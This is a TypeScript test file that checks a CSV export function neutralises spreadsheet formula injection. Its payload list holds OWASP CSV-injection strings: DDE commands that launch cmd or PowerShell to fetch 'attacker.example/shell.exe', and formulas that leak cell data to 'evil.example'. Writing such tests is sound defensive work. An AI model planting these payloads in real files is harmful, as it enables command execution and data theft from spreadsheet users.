import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "./csv-cell";

// OWASP's CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection and the cheat sheets it links),
// the variants from issue #14 that slipped through the old rule, and the tricks that hide the trigger behind
// whitespace, quotes, control characters or full-width signs.
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click to see")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "Sheet1!A1")',
  '=IMAGE("http://evil.example/x.png")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=1+1",
  "=2+5+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@HYPERLINK("http://evil.example")',
  "+1+1",
  "+1-1",
  "-1+1",
  "-1-1",
  "+2+3+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-1+1+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "+45 20 12 34 56+cmd|' /C calc'!A0",
  "+4520123456+1",
  "-5*2",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\t-2+3+cmd|' /C calc'!A0",
  " =1+1",
  "  +1+1",
  '"=1+1"',
  "'=1+1",
  "\u0000=1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\uff1d1+1", // full-width =
  "\uff0b1+1", // full-width +
  "\uff0d1+1", // full-width -
  "\uff20SUM(1+1)", // full-width @
];

/** What a spreadsheet sees in a written cell: CSV unquoting as RFC 4180 (and Excel, LibreOffice, Sheets) does it. */
function parsedCell(written: string): string {
  return written.startsWith('"') ? written.slice(1, -1).replace(/""/g, '"') : written;
}

/**
 * Whether any of Excel, LibreOffice Calc or Google Sheets could take the cell as a formula: it starts (after
 * whitespace, quotes or control characters that some importers trim) with = + - @ or a full-width twin, and is
 * neither a plain number (every spreadsheet reads it as a number and nothing else) nor text marked by a leading
 * apostrophe.
 */
function couldBeFormula(cell: string): boolean {
  if (cell.startsWith("'") || /^[+-]?\d+(\.\d+)?$/.test(cell)) return false; // a leading apostrophe makes it text
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the spreadsheet formula rule under test starts with control characters
  return /^[\s"\u0000-\u001f\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);
}

describe("CSV export cells", () => {
  it.each(PAYLOADS)("never leave a formula for a spreadsheet: %j", (payload) => {
    const cell = parsedCell(csvCell(payload));
    expect(couldBeFormula(cell)).toBe(false);
    // Nothing is lost: the apostrophe is the only change, so staff still read exactly what was typed.
    expect(cell === payload || cell === `'${payload}`).toBe(true);
  });

  it("keep phone numbers in E.164 as written, and plain numbers as numbers", () => {
    for (const value of ["+4520123456", "+923001234567", "+14155550123", "4520123456", "12", "-3", "0.35", "-0.5"]) {
      expect(csvCell(value)).toBe(value);
    }
    expect(csvCell(42)).toBe("42");
    expect(csvCell(null)).toBe("");
  });

  it("quote separators, quotes and line breaks, so a value cannot start a new cell or row", () => {
    expect(csvCell('say "hi", ok')).toBe('"say ""hi"", ok"');
    expect(csvCell("a;=1+1")).toBe('"a;=1+1"');
    expect(csvCell("line\n=1+1")).toBe('"line\n=1+1"');
    expect(csvLine(["+4520123456", "=1+1", "-2+3+cmd|' /C calc'!A0"])).toBe(
      "+4520123456,'=1+1,'-2+3+cmd|' /C calc'!A0\r\n",
    );
  });
});
